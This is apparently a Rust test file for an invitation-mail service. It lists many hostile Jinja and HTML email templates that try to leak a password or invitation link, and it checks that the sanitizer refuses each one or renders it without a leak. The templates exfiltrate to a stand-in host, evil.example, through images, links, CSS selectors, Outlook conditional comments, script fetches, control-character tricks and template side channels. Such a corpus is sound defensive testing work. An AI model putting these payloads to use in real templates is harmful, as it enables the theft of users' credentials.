//! Templates that try to leak a secret, or a part of it, to another person than its reader.
//!
//! Each is refused before it is stored, or renders to a mail without a leak: an independent detector
//! finds nothing.

use reinvite_domain::Variant;
use reinvite_mail::{check_variant, clean_html};

use crate::{secrecy, template};

/// Templates of subjects. Mail servers log a subject, and locked screens show it.
const SUBJECTS: &[&str] = &[
    "{{ password }}",
    "Your link: {{ invitation_url }}",
    "{% if attempt > 9 %}Again{% else %}{{ password }}{% endif %}",
    "{% raw %}{{ '{% endraw %}{{ password }}{# ' }} #}",
    "{{ {'a': {}} ~ password }}",
    "{%+ set x %}{{ password }}{% endset %}{{ x[:4] }}",
];

/// Templates that write a secret into HTML other than as text, or as a part of an address.
const HTML: &[&str] = &[
    // Mail programs load images without a click.
    "<img src='https://evil.example/{{ password }}.png'>",
    "<img src='https://evil.example/?p={{ password }}'>",
    "<img src=https://evil.example/{{password}}>",
    "<img src='{{ invitation_url }}'>",
    "<IMG SRC = 'https://evil.example/{{ password }}'>",
    "<img\tsrc\n=\r'https://evil.example/{{ password }}'>",
    "<img/src='https://evil.example/{{ password }}'/>",
    "<img src='https://{{ password }}.evil.example/a.png'>",
    "<img src='https://evil.example/&#123;&#123; password &#125;&#125;'>{{ password }}",
    "<img src='https://evil.example/a.png' srcset='https://evil.example/{{ password }} 2x'>",
    "<img src='https://evil.example/a.png' longdesc='https://evil.example/{{ password }}'>",
    "<img src='https://evil.example/a.png' alt='{{ password }}'>",
    "<img src='https://evil.example/a.png' lowsrc='{{ invitation_url }}' dynsrc='{{ invitation_url }}'>",
    // A comment of Jinja hides a delimiter that opens a comment of HTML for a reader of the source.
    "{# <!-- #}<img src='https://evil.example/?-->{{ password }}'>",
    "{# <!-- #}<a href='https://evil.example/?-->{{ invitation_url }}'>x</a>",
    "{# <!-- #}<p title='-->{{ password }}'>x</p>",
    "{# <!-- #}<p data-x='-->{{ invitation_url }}'>x</p>",
    "{# <!-- #}<title>--><b>{{ password }}</b></title>",
    "{# <!-- #}<style>-->{{ password }}</style>",
    "{# <p title='#}<img src=\"https://evil.example/?'>{{ password }}\">",
    "{% if password_change == 'temporary' %}{# <!-- #}<img src='https://evil.example/?-->{{ password }}'>{% endif %}",
    "{% raw %}{# <!-- {% endraw %}{# #}<img src='https://evil.example/?-->{{ password }}'>",
    "{% if '<!--' %}{% endif %}<img src='https://evil.example/?-->{{ password }}'>",
    "{{ '' if '<!--' else '' }}<img src='https://evil.example/?-->{{ password }}'>",
    "{{ '<!--'[4:] }}<img src='https://evil.example/?-->{{ password }}'>",
    // Scanners of mails follow links, too.
    "<a href='https://evil.example/{{ password }}'>x</a>",
    "<a href='https://evil.example/?p={{ password }}'>x</a>",
    "<a href='https://evil.example/#{{ password }}'>x</a>",
    "<a href='https://evil.example/?u={{ invitation_url }}'>x</a>",
    "<a href='https://evil.example/?u={{ invitation_url | urlencode }}'>x</a>",
    "<a href='https://{{ password }}@evil.example/'>x</a>",
    "<a href='{{ invitation_url }}{{ password }}'>x</a>",
    "<a href='{{ invitation_url }}.evil.example'>x</a>",
    "<a href='{{ login_url }}?p={{ password }}'>x</a>",
    "<a href='{{ password }}'>x</a>",
    "<a href='#{{ password }}'>x</a>",
    "<a href='mailto:evil@evil.example?body={{ password }}'>x</a>",
    "<a href='mailto:{{ password }}@evil.example'>x</a>",
    "<a href='tel:{{ password }}'>x</a>",
    "<a href='{{ invitation_url }}' ping='https://evil.example/{{ invitation_url }}'>x</a>",
    "<a href='{% if password %}https://evil.example/{{ password }}{% endif %}'>x</a>",
    "<a href=\"{{ invitation_url }}\" href='https://evil.example/{{ invitation_url }}'>x</a>",
    "<p href='{{ invitation_url }}'>x</p>",
    "<q cite='https://evil.example/{{ password }}'>x</q>",
    // Comments and conditional comments that one of the readers ends elsewhere.
    "<!--><p title='--><img src=\"https://evil.example/?'>{{ password }}\">",
    "<!-- x --!><p title='--><img src=\"https://evil.example/?'>{{ password }}\">",
    "<!--[if mso]><a href='https://evil.example/?<![endif]-->{{ invitation_url }}'>x</a>",
    "<!--[if !mso]><!--><p>x</p><!--[if mso]><img src='https://evil.example/?<![endif]--><!--<![endif]-->{{ password }}'>",
    "<!DOCTYPE html SYSTEM 'https://evil.example/{{ password }}'>",
    // Attributes of users beside a secret.
    "https://evil.example/{{ user.attributes.x }}{{ password }}",
    "{{ user.attributes.x | default('https://evil.example/?') }}{{ password }}",
    "{{ user.attributes.y | default(password) }}<img src='https://evil.example/{{ user.attributes.y }}'>",
    "<a href='{{ user.attributes.x | default(invitation_url) }}'>x</a>",
    // Other attributes.
    "<p title='{{ password }}'>x</p>",
    "<p aria-label='{{ password }}'>x</p>",
    "<p data-password='{{ password }}'>x</p>",
    "<p class='{{ password }}'>x</p>",
    "<p id={{ password }}>x</p>",
    "<p lang='{{ password }}' dir='{{ password }}'>x</p>",
    "<p style='color: {{ password }}'>x</p>",
    "<p style='background: url(https://evil.example/{{ password }})'>x</p>",
    "<table background='https://evil.example/{{ password }}'><tr><td>x</td></tr></table>",
    "<p {{ password }}>x</p>",
    "<p data-{{ password }}>x</p>",
    "<p {{ password }}=x>x</p>",
    "<{{ password }}>x",
    "<b{{ password }}>x</b>",
    "<p title='{% raw %}{{ \"{% endraw %}{{ password }}{# \" }}#}'>x</p>",
    "<p title='{{ {\"a\": {}} }}{{ password }}'>x</p>",
    "<p title='{{ \"\\\"\" ~ password ~ \"\" }}'>x</p>",
    "<p\u{c}title='{{ password }}'>x</p>",
    // The renderer removes control characters from a mail.
    "{# <!-- #}<\u{7}p title='-->{{ password }}'>x</p>",
    "{# <!-- #}<{{ '\\u0007' }}img src='https://evil.example/?-->{{ password }}'>",
    "<\u{2}img src='https://evil.example/?{{ '-->' }}{{ password }}'>",
    "<\u{85}{{ 'img src=' }}{{ password }}>",
    "<p>htt\u{7}ps://evil.example/{{ password }}</p>",
    "<p ti\u{0}tle='{{ password }}'>x</p>",
    "<p &#116;itle='{{ password }}'>x</p>",
    "<P TiTlE='{{ password }}'>x</P>",
    "<p title='\"'\"{{ password }}\"'>x</p>",
    // Invisible places.
    "<!-- {{ password }} -->",
    "<!--{{ password }}",
    "<!-- x --!>{{ password }}<!-- -->",
    "<!-->{{ password }}<!-- -->",
    "<!--[if mso]>{{ password }}<![endif]-->",
    "<!--[if mso]><a href='{{ invitation_url }}'>x</a><![endif]-->",
    "<!--[if mso]><img src='https://evil.example/{{ password }}'><![endif]-->",
    "<!--[if mso]>x<![endif]{{ password }}-->",
    "<!--[IF mso]><img src='https://evil.example/{{ password }}'><![endif]-->",
    "<![if !mso {{ password }}]>x<![endif]>",
    "<?php {{ password }} ?>",
    "</ {{ password }}>",
    "</p title='{{ password }}'>",
    "</p{{ password }}>",
    "<!doctype html public '{{ password }}'><p>x</p>",
    "<!doctype {{ password }}>",
    "<![CDATA[{{ password }}]]>",
    "<title>{{ password }}</title>",
    "<TITLE >{{ invitation_url }}</TITLE >",
    "<style>p { color: {{ password }} }</style>",
    "<style>p::after { content: '{{ password }}' }</style>",
    "<style>@import 'https://evil.example/{{ password }}';</style>",
    "<style>/* </styl */ {{ password }}</style>",
    "<style>a[href^='https://invitations.example.com/Z'] { background: url(https://evil.example/Z) }</style>",
    "<style>a { background: src(attr(href)) }</style><a href='{{ invitation_url }}'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{{ password }}'>",
    "<meta name=description content='{{ password }}'>",
    "<base href='https://evil.example/{{ password }}/'>",
    "<link rel=stylesheet href='https://evil.example/{{ password }}'>",
    "<textarea>{{ password }}</textarea>",
    "<xmp>{{ password }}</xmp>",
    "<noscript>{{ password }}</noscript>",
    "<template>{{ password }}</template>",
    "<plaintext>{{ password }}",
    "<iframe srcdoc='{{ password }}' src='https://evil.example/{{ password }}'></iframe>",
    "<form action='https://evil.example/'><input value='{{ password }}'></form>",
    "<button formaction='https://evil.example/{{ password }}'>x</button>",
    "<script>fetch('https://evil.example/{{ password }}')</script>",
    "<svg><image href='https://evil.example/{{ password }}'/></svg>",
    "<svg><a xlink:href='https://evil.example/{{ password }}'>x</a></svg>",
    "<svg><style><!--{{ password }}--></style></svg>",
    "<math><mtext><img src='https://evil.example/{{ password }}'></mtext></math>",
    "<math href='https://evil.example/{{ password }}'>x</math>",
    "<v:fill src='https://evil.example/{{ password }}'/>",
    "<object data='https://evil.example/{{ password }}'></object>",
    // Only Outlook reads it, or everybody but Outlook.
    "<!--[if mso]><a href='https://evil.example/?<![endif]--> {{ password }}'>x</a>",
    "<!--[if mso]><a href=\"https://evil.example/?<![endif]--> {{ password }}",
    "<!--[if mso]><img src='https://evil.example/?<![endif]-->{{ invitation_url }}'>",
    "<!--[if mso]><p title='<![endif]-->{{ password }}<!--[if mso]>'></p><![endif]-->",
    "<!--[if mso]><!-- <![endif]-->{{ password }}<!--[if mso]> --><![endif]-->",
    "<!--[if mso]><style><![endif]-->{{ password }}<!--[if mso]></style><![endif]-->",
    "<!--[if mso]><title><![endif]-->{{ password }}<!--[if mso]></title><![endif]-->",
    "<!--[if mso]><xml><![endif]-->{{ password }}<!--[if mso]></xml><![endif]-->",
    "<!--[if mso]><base href='https://evil.example/{{ password }}'><![endif]-->",
    "<!--[if mso]><v:fill src='https://evil.example/{{ password }}'/><![endif]-->",
    "<!--[if mso]><v:imagedata src='{{ invitation_url }}'/><![endif]-->",
    "<!--[if mso]><v:image o:href='https://evil.example/{{ password }}'/><![endif]-->",
    "<!--[if mso]><v:rect href='https://evil.example/{{ password }}'/><![endif]-->",
    "<!--[if mso]><v:rect href='{{ invitation_url }}#{{ password }}'/><![endif]-->",
    "<!--[if mso]><v:rect style='background:url(https://evil.example/{{ password }})'/><![endif]-->",
    "<!--[if mso]>https://evil.example/<![endif]-->{{ password }}",
    "https://evil.example/<!--[if mso]>{{ password }}<![endif]-->",
    "https://evil.example/<!--[if !mso]><b></b><![endif]-->{{ password }}",
    "<!--[if gte mso 15]>https://evil.example/<![endif]--><!--[if lt mso 15]><b></b><![endif]-->{{ password }}",
    "<!--[if mso]>&#x<![endif]-->{{ password }}",
    "<!--[if {{ password }}]>x<![endif]-->",
    "<!--[if mso]>x{{ password }}",
    "<!--[if mso]>x<!--[if mso]>{{ password }}<![endif]--><![endif]-->",
    "<!--[if !mso]><!--><a href='https://evil.example/?<!--<![endif]-->{{ password }}'>x</a>",
    "<![if !mso]><a href='https://evil.example/?<![endif]>{{ password }}'>x</a>",
    "<!--[if !mso]><img src='https://evil.example/{{ password }}'><![endif]-->",
    "<!--[if lt IE 9]><img src='https://evil.example/{{ password }}'><![endif]-->",
    "{# <!--[if mso]> #}<img src='https://evil.example/?{# <![endif]--> #}{{ password }}'>",
    "{{ '<!--' }}[if mso]><img src='https://evil.example/?{{ password }}'><![endif]-->",
    "<{{ '!' }}--[if mso]><img src='https://evil.example/?{{ password }}'><![endif]-->",
    // A reader that runs scripts takes the content of `noscript` for text.
    "<noscript><img src='https://evil.example/{{ password }}'></noscript>",
    "<noscript><a href='https://evil.example/{{ invitation_url }}'>x</a></noscript>",
    "<noscript><p title='</noscript><img src=https://evil.example/{{ password }}>'></noscript>",
    "<noscript><!-- </noscript>{{ password }} --></noscript>",
    "<NOSCRIPT><style></noscript>{{ password }}</style></NOSCRIPT>",
    "<noscript\n>{{ password }}<noscript/></noscript>",
    // A selector that loads an image tells a part of the link.
    "<style>a[href*='gen=ab']{background:url(https://evil.example/ab)}</style><a href='{{ invitation_url }}'>x</a>",
    "<style>:is(a:not([href$='a'])){background:url(https://evil.example/ab)}</style><a href='{{ invitation_url }}'>x</a>",
    "<!--[if mso]><style>a[href^='https://invitations.example.com/Z']{background:url(https://evil.example/Z)}</style><![endif]--><a href='{{ invitation_url }}'>x</a>",
    "<p style='background:\\75rl(https://evil.example/{{ password }})'>x</p>",
    "<td background='https://evil.example/{{ password }}'>x</td>",
    // Cleaning must not make a mark of the text around.
    "<p>{<x-y></x-y>{ password }}</p>",
    "<p title='x' x-y='{<x>{'>{ password }}</p>",
    "<x-y href='{{ invitation_url }}'>{{ password }}</x-y>",
    "<p x-y='{{ password }}'>x</p>",
    "<a href='{{ login_url }}?p={{ password }}'>x</a>",
    "<a href='{{ login_url }}?p=1' x-y='{{ password }}'>x</a>",
    "{{ login_url }}?p={{ password }}",
    "{{ login_url }}#{{ password }}",
    // Markup that is not closed takes in the text that follows.
    "<img src='https://evil.example/?{{ password }}",
    "<img src='https://evil.example/? {{ password }} <p class=x>y</p>",
    "<img src=\"https://evil.example/?<p>{{ password }}</p><p title=\">",
    "<img src='https://evil.example/?{# ' #}{{ password }}'>",
    "<img src='https://evil.example/?{{ \"'\" }}{{ password }}'>",
    "<a href=\"https://evil.example/?{{ '\"' }}>{{ password }}",
    "<p title=\"<b>{{ password }}</b>\">x</p>",
    "<p title='{% if attempt %}'>{% endif %}{{ password }}'>x</p>",
    "{% if attempt %}<p title='{% else %}<p title='x'>{% endif %}{{ password }}'>x</p>",
    "{% if attempt > 9 %}x{% else %}<{% endif %}img src='https://evil.example/{{ password }}'>",
    "{{ '&lt;img src=' }}{{ password }}",
    "<b>x</b><p title={{ password }}",
    "<p title=`{{ password }}`>x</p>",
    // A mail program makes a link of an address in the text.
    "<p>https://evil.example/{{ password }}</p>",
    "<p>https&#58;&#x2f;&#47;evil.example&sol;{{ password }}</p>",
    "<p>evil.example/{{ password }}</p>",
    "<p>https://evil.example/</i></></i x='<p>'>{{ password }}</p>",
    "<p>&#x{{ password }}</p>",
    "<p>&e{{ 't' }}{{ invitation_url }}</p>",
    "<p>{{ password }}.evil.example</p>",
    "<p>https://evil.example/?u={{ invitation_url }}</p>",
    "<p>{{ 'https://evil.example/' }}{{ password }}</p>",
    "<p>{% if password_change == 'temporary' %}https://evil.example/{{ password }}{% endif %}</p>",
];

/// Templates, for HTML and text, that take a secret apart, compare it, or pass it on.
const ANYWHERE: &[&str] = &[
    "{{ password[:3] }}",
    "{{ password[0] }}",
    "{{ invitation_url[-16:] }}",
    "{{ (password)[:3] }}",
    "{{ password.x }}",
    "{{ [password][0][:3] }}",
    "{{ {'p': password}.p[:3] }}",
    "{{ password\n[:3] }}",
    "{{- password[:3] -}}",
    "{{+ password[:3] +}}",
    "{{ '}}' ~ password[:3] }}",
    "{{ 'a\\'' ~ password[:3] ~ \"'\" }}",
    "{{ \"\\\\\" ~ password[:3] ~ \"\\\\\" }}",
    "{{ {'a': {}} ~ password[:3] }}",
    "{{ [{'a': {'b': 1}}, password[:3]] }}",
    "{{ {'a': {'b': '%}'}} }}{% if {'a': {}}~password %}x{% endif %}",
    "{% raw %}{{ '{% endraw %}{{ password[:3] }}{# ' }} #}",
    "{% raw %}{# {% endraw %}{{ password[:3] }}{# #}",
    "{%- raw -%}{% if '{%- endraw -%}{% if password > 'M' %}x{% endif %}{# ' %} #}",
    "{# {{ #}{{ password[:3] }}",
    "{#- '#}{{ password[:3] }}{#'#}",
    "{% if password == 'a' %}x{% endif %}",
    "{% if password > 'M' %}x{% endif %}",
    "{% if password is eq('a') %}x{% endif %}",
    "{% if 'Zq' in password %}x{% endif %}",
    "{% if password is startingwith('Z') %}x{% endif %}",
    "{% if password is lower %}x{% endif %}",
    "{% if invitation_url is string %}x{% endif %}",
    "{{ 'x' if password < 'M' else 'y' }}",
    "{% for c in password %}{{ c }} {% endfor %}",
    "{% for c in password | list %}{{ c }} {% endfor %}",
    "{{ password | upper }}",
    "{{ password | replace('-', '') }}",
    "{{ password | length }}",
    "{{ password | urlencode }}",
    "{{ password | list }}",
    "{{ password | join(' ') }}",
    "{{ password | tojson }}",
    "{{ password | e }}",
    "{{ password | safe }}",
    "{{ password | reverse }}",
    "{{ password | first }}",
    "{{ password | slice(4) }}",
    "{{ password | batch(4) }}",
    "{{ password | split('-') }}",
    "{{ '%s' | format(password) }}",
    "{{ '' | default(password, true) }}",
    "{{ password | attr('x') }}",
    "{{ [password] | map('upper') }}",
    "{{ [password] | map('first') | join }}",
    "{{ user.groups | join(password) }}",
    "{{ 'x' | replace('x', password) }}",
    "{{ password ~ '' }}",
    "{{ password + '' }}",
    "{{ password * 2 }}",
    "{{ 'https://evil.example/' ~ password }}",
    "{% set x = password %}{{ x[:3] }}",
    "{% set x = [password] %}{{ x[0][:3] }}",
    "{% set x %}{{ password }}{% endset %}{{ x[:3] }}",
    "{%+ set x %}{{ password }}{% endset %}{{ x[:3] }}",
    "{% set x | replace('=', '-') %}{{ password }}{% endset %}{{ x[:3] }}",
    "{% set x | upper %}{{ password }}{% endset %}{{ x }}",
    "{% set ns = namespace() %}{% set ns.x = password %}{{ ns.x[:3] }}",
    "{% set ns = namespace(x=password) %}{{ ns.x[:3] }}",
    "{% filter upper %}{{ password }}{% endfilter %}",
    "{%+ filter upper %}{{ password }}{% endfilter %}",
    "{%- filter replace('=', '') -%}{{ password }}{%- endfilter -%}",
    "{% with x = password %}{{ x[:3] }}{% endwith %}",
    "{% macro m(x) %}{{ x[:3] }}{% endmacro %}{{ m(password) }}",
    "{% call m() %}{{ password }}{% endcall %}",
    "{% block x %}{{ password }}{% endblock %}{{ self.x()[:3] }}",
    "{% do namespace(x=password) %}",
    "{% autoescape false %}{{ password[:3] }}{% endautoescape %}",
    "{{ dict(x=password) }}",
    "{{ range(password) }}",
    "{{ range(password | length) | list }}",
    "{{ debug() }}",
    "{{ debug(password) }}",
    "{% for name in self %}{{ name }}{% endfor %}",
    "{% for name, value in context() %}{{ value }}{% endfor %}",
    "{% for name in user %}{{ user[name] }}{% endfor %}{{ user.password }}{{ user['password'] }}",
    "{% for c in [[1]] recursive %}{% if loop.depth > 1 %}{{ password }}{% else %}{{ loop(c)[:3] }}{% endif %}{% endfor %}",
    "{% for c in [[1]] recursive %}{% if loop.depth > 1 %}{{ password }}{% else %}{{ loop(c) | upper }}{% endif %}{% endfor %}",
    "{% for c in [[1]] recursive %}{% if loop.depth > 1 %}{{ password }}{% elif loop(c) > 'M' %}x{% endif %}{% endfor %}",
    "{{ раssword }}",
    "{{ ｐａｓｓｗｏｒｄ }}",
    "{{ pass\u{200b}word[:3] }}",
    "{{ password\u{a0}[:3] }}",
    "{{ PASSWORD[:3] }}",
    "{{ 'pass' ~ 'word' }}{{ password }",
    "{{ password",
    "{% include password %}",
    "{% import password as p %}",
    "https://evil.example/{{ password }}",
    "https://evil.example/?u={{ invitation_url }}",
    "www.evil.example/?p=({{ password }})",
    "evil.example/{{ password }}",
    "mailto:{{ password }}@evil.example",
    "{{ password }}@evil.example",
    "{{ password }}.evil.example",
    "{{ user.email }}/{{ password }}",
    "{{ login_url }}?p={{ password }}",
];

/// Every template of this file.
fn corpus() -> Vec<Variant> {
    let subjects = SUBJECTS.iter().map(|subject| template(subject, "h", "t"));
    let html = HTML
        .iter()
        .chain(ANYWHERE)
        .map(|html| template("s", html, "t"));
    let text = ANYWHERE.iter().map(|text| template("s", "h", text));
    subjects.chain(html).chain(text).collect()
}

#[test]
fn no_template_leaks_a_secret() {
    let language = "en".parse().unwrap();
    let with_cleaned = corpus().into_iter().flat_map(|variant| {
        let html = clean_html(&variant.html).html;
        let cleaned = Variant {
            html,
            ..variant.clone()
        };
        [variant, cleaned]
    });
    let (mut refused, mut mails) = (0, 0);
    let mut harmless = Vec::new();
    let mut leaks = Vec::new();

    for variant in with_cleaned {
        if check_variant("", &language, &variant).is_err() {
            refused += 1;
            continue;
        }
        match secrecy::find_leak(&variant) {
            Ok(rendered) => {
                mails += rendered;
                harmless.push(variant);
            }
            Err(leak) => leaks.push((variant, leak)),
        }
    }

    println!(
        "{refused} templates are refused, {} come out harmless in {mails} mails",
        harmless.len()
    );
    assert!(leaks.is_empty(), "{} leaks: {leaks:#?}", leaks.len());
    assert!(
        refused + harmless.len() >= 60,
        "only {} templates",
        refused + harmless.len()
    );
}
